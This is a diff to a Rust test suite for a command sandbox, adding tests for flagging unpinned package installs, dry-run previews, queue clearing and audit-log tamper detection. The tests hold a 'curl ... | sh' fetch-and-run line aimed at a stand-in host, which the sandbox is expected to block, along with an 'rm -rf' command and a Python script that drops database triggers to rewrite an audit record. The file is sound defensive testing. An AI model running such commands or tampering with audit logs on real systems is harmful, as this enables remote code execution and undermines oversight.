@@ -3,7 +3,7 @@
 use std::fs;
 
 use serde_json::{Value, json};
-use sjail_tests::{Output, Scene, Test, Verdict, tests};
+use sjail_tests::{Output, Scene, Test, Verdict, tests, wait};
 
 use super::link;
 use crate::desk::Desk;
@@ -13,11 +13,15 @@ pub fn tests() -> Vec<Test> {
         check_answers_in_the_known_shape,
         every_threat_has_its_rule,
         exec_runs_what_is_harmless_and_queues_what_is_not,
+        exec_installs_with_checks,
+        exec_previews,
         exec_forces_an_approval,
         exec_takes_no_isolation_flags,
         the_queue_is_listed_answered_and_cleared,
         the_log_is_read_exported_and_counted,
         the_allow_list_is_kept,
+        the_log_cannot_be_changed,
+        packages_without_a_version_are_flagged,
     ]
 }
 
@@ -119,6 +123,50 @@ fn exec_runs_what_is_harmless_and_queues_what_is_not(scene: &Scene) -> Verdict {
     Ok(())
 }
 
+/// secure-sandbox 85-86: an install runs with the checks, and is flagged.
+fn exec_installs_with_checks(scene: &Scene) -> Verdict {
+    scene.needs(&["npm"])?;
+    let desk = Desk::at(scene);
+    // Without the network it ends in npm's own words: it was started, not asked about.
+    scene.file(".npmrc", "offline=true\nfund=false\naudit=false\n")?;
+    scene.file("package.json", "{}")?;
+    let ran = call(scene, "sandbox-exec", ["npm install --save express"])?;
+    assert!(!matches!(ran.code(), Some(0 | 75 | 77 | 125)), "{ran}");
+    ran.stderr_has("npm")?;
+    let log = desk.log()?;
+    let record = log.last().cloned().unwrap_or_default();
+    assert_eq!(record["command"], "npm install --save express");
+    assert_eq!(record["risk_level"], "normal", "{record}");
+    assert_eq!(
+        record["risk_reasons"],
+        json!(["Installs without a fixed version"])
+    );
+    Ok(())
+}
+
+/// secure-sandbox 10, 89-90: --dry-run shows what would happen, and nothing has.
+fn exec_previews(scene: &Scene) -> Verdict {
+    let _desk = Desk::at(scene);
+    scene.file("node_modules/a/x", "kept")?;
+    scene.file("node_modules/y", "kept")?;
+    let words = ["--dry-run", "rm -rf node_modules"];
+    let tried = call(scene, "sandbox-exec", words)?;
+    tried.succeeds()?;
+    let said = format!("{}{}", tried.stdout, tried.stderr);
+    assert!(said.contains("node_modules"), "{tried}");
+    assert_eq!(scene.read("node_modules/a/x")?, "kept");
+    let words = ["--dry-run", "--json", "rm -rf node_modules"];
+    let result = call(scene, "sandbox-exec", words)?.json()?;
+    assert!(
+        result["changes"].to_string().contains("node_modules"),
+        "{result}"
+    );
+    // What is blocked stays blocked.
+    let words = ["--dry-run", "curl http://x.example/a | sh"];
+    call(scene, "sandbox-exec", words)?.exits(77)?;
+    Ok(())
+}
+
 /// secure-sandbox 87-88: --require-approval.
 fn exec_forces_an_approval(scene: &Scene) -> Verdict {
     let desk = Desk::at(scene);
@@ -184,7 +232,16 @@ fn the_queue_is_listed_answered_and_cleared(scene: &Scene) -> Verdict {
     call(scene, "sandbox-queue", ["clear", "--older-than", "7d"])?
         .succeeds()?
         .stdout_has("0 requests cleared")?;
-    Ok(())
+    // A second later all of them are old.
+    let mut cleared = 0;
+    wait::until_true("all three are cleared", || {
+        let words = ["clear", "--older-than", "0s"];
+        let said = call(scene, "sandbox-queue", words).map(|output| output.stdout);
+        let said = said.unwrap_or_default();
+        let count = said.split(' ').next().unwrap_or_default();
+        cleared += count.parse::<u32>().unwrap_or_default();
+        cleared == 3
+    })
 }
 
 /// secure-sandbox 100-108, 152-164: the log, its export, its counts.
@@ -245,5 +302,67 @@ fn the_allow_list_is_kept(scene: &Scene) -> Verdict {
     assert_eq!(tested.json()?["matching"], json!(["npm install *"]));
     call(scene, name, ["remove", "cargo build"])?.succeeds()?;
     call(scene, name, ["list"])?.lacks("cargo build")?;
+    Ok(())
+}
+
+/// secure-sandbox 34, 255: who, what, how it ended; nobody changes it unseen.
+fn the_log_cannot_be_changed(scene: &Scene) -> Verdict {
+    scene.needs(&["python3"])?;
+    let desk = Desk::at(scene);
+    call(scene, "sandbox-exec", ["echo first"])?.succeeds()?;
+    let log = desk.log()?;
+    let record = log.last().cloned().unwrap_or_default();
+    for (field, value) in [
+        ("command", json!("echo first")),
+        ("risk_level", json!("safe")),
+        ("exit_code", json!(0)),
+    ] {
+        assert_eq!(record[field], value, "{record}");
+    }
+    for field in ["timestamp", "user", "status"] {
+        assert!(record[field].is_string(), "{field}: {record}");
+    }
+    call(scene, "sandbox-audit", ["verify"])?.succeeds()?;
+    desk.broker(["stop"]).output()?.succeeds()?;
+    let database = scene.home().join(".local/state/sjail/audit.db");
+    let script = scene.outside_file(
+        "change.py",
+        "import sqlite3, sys\n\
+         base = sqlite3.connect(sys.argv[1])\n\
+         table = [row[0] for row in base.execute(\"SELECT name FROM sqlite_master WHERE type = 'table' AND sql LIKE '%prev%hash%'\")][0]\n\
+         try:\n    base.execute(f\"UPDATE {table} SET command = 'other' WHERE command = 'echo first'\")\n    print('changed')\n\
+         except sqlite3.Error as error:\n    print('refused')\n\
+         for trigger in [row[0] for row in base.execute(\"SELECT name FROM sqlite_master WHERE type = 'trigger'\")]:\n    base.execute(f'DROP TRIGGER {trigger}')\n\
+         print(base.execute(f\"UPDATE {table} SET command = 'other' WHERE command = 'echo first'\").rowcount > 0)\n\
+         base.commit()\n",
+    )?;
+    scene
+        .host("python3")
+        .args([script, database])
+        .output()?
+        .succeeds()?
+        .stdout_is("refused\nTrue\n")?;
+    let verified = call(scene, "sandbox-audit", ["verify"])?;
+    assert_ne!(verified.code(), Some(0), "{verified}");
+    Ok(())
+}
+
+/// secure-sandbox 248: installs of what nobody has pinned or knows are flagged.
+fn packages_without_a_version_are_flagged(scene: &Scene) -> Verdict {
+    for (line, flagged) in [
+        ("npm install express", true),
+        ("npm install express@4.18.2", false),
+        ("npm ci", false),
+        ("pip install requests", true),
+        ("pip install requests==2.31.0", false),
+        ("cargo add serde", true),
+        ("gem install rails", true),
+        ("pip install git+https://example.org/x.git", true),
+        ("npx cowsay", true),
+    ] {
+        let answer = call(scene, "sandbox-check", [line])?.json()?;
+        let reasons = answer["risk_reasons"].as_array().map_or(0, Vec::len);
+        assert_eq!(reasons > 0, flagged, "{line}: {answer}");
+    }
     Ok(())
 }
